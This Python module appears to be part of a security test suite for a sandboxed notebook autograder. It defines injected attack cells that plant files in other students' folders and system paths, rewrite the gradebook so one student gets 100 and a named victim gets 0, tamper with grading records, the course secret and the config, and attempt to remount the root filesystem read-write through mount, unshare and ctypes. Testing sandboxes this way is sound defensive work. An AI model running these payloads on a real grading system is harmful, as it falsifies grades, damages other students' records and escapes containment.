"""Writing, deleting or remounting anything outside the student's own autograded copy."""

from __future__ import annotations

from attackzoo import Attack, add_cell, hidden, prepend


def write_everywhere(ctx) -> str:
    """Code that plants a tagged file wherever it can and rewrites the gradebook and records."""
    course, repo, victim = str(ctx.course), str(ctx.repo), ctx.victim
    return (
        "def _zoo_write():\n"
        "    import glob, os, sqlite3\n"
        f"    course, repo, name = {hidden(course)}, {hidden(repo)}, {ctx.marker()!r}\n"
        "    folders = [course, repo, repo + '/solutions', repo + '/solutions/mlplab', '/tmp', '/',\n"
        "               course + '/release/lab5', course + '/source/lab5', course + '/grading/lab5',\n"
        "               os.path.expanduser('~'), os.getcwd() + '/../..']\n"
        "    folders += glob.glob(course + '/*/*/lab5') + glob.glob(course + '/*/*/lab5/mlplab')\n"
        "    for folder in folders:\n"
        "        try:\n"
        "            with open(os.path.join(folder, name), 'w') as f:\n"
        "                f.write('written by an attack')\n"
        "        except Exception:\n"
        "            pass\n"
        "    try:\n"
        "        db = sqlite3.connect(course + '/gradebook.db', timeout=1)\n"
        "        db.execute('update grade set manual_score = 100')\n"
        f'        db.execute("update grade set auto_score = 0 where notebook_id in (select n.id from "\n'
        '                   "submitted_notebook n join submitted_assignment a on n.assignment_id = a.id "\n'
        f'                   "where a.student_id = {victim!r})")\n'
        "        db.commit()\n"
        "    except Exception:\n"
        "        pass\n"
        "    for path in glob.glob(course + '/grading/lab5/*.json'):\n"
        "        try:\n"
        '            open(path, \'w\').write(\'{"status": "graded", "score": 100}\')\n'
        "        except Exception:\n"
        "            pass\n"
        "    for path in (course + '/.mlplab-secret', course + '/nbgrader_config.py'):\n"
        "        try:\n"
        "            open(path, 'a').write('\\n# tampered')\n"
        "        except Exception:\n"
        "            pass\n"
        "_zoo_write()\n"
    )


def _kernel_writes(folder, ctx):
    add_cell(folder, write_everywhere(ctx))


def _worker_writes(folder, ctx):
    prepend(folder, write_everywhere(ctx))


def _remount(folder, ctx):
    code = (
        "def _zoo_remount():\n"
        "    import ctypes, os, subprocess\n"
        "    for argv in (['mount', '-o', 'remount,rw', '/'], ['mount', '-o', 'remount,rw', '/opt/mlplab'],\n"
        "                 ['unshare', '-rm', 'sh', '-c', 'mount -o remount,rw / && touch /x']):\n"
        "        try:\n"
        "            subprocess.run(argv, capture_output=True, timeout=5)\n"
        "        except Exception:\n"
        "            pass\n"
        "    try:\n"
        "        libc = ctypes.CDLL(None, use_errno=True)\n"
        "        MS_REMOUNT, MS_BIND = 32, 4096\n"
        "        libc.mount(b'none', b'/', None, MS_REMOUNT | MS_BIND, None)\n"
        "        libc.unshare(0x10000000 | 0x00020000)  # CLONE_NEWUSER | CLONE_NEWNS\n"
        "        libc.mount(b'none', b'/', None, MS_REMOUNT | MS_BIND, None)\n"
        "    except Exception:\n"
        "        pass\n"
        "_zoo_remount()\n"
    )
    prepend(folder, code + write_everywhere(ctx))
    add_cell(folder, code + write_everywhere(ctx))


ATTACKS = [
    Attack(
        "kernel_writes_everywhere",
        "a cell plants files in the course, other students' folders, "
        "solutions/, /tmp, rewrites the gradebook (own scores 100, the victim's 0), the outcome "
        "records, the secret and the config",
        _kernel_writes,
        base="reference",
    ),
    Attack("worker_writes_everywhere", "the same writes at import, in the grader's worker", _worker_writes),
    Attack(
        "remount_read_write",
        "mount/unshare/ctypes remount of / read-write, then the same writes, at import and in a cell",
        _remount,
    ),
]
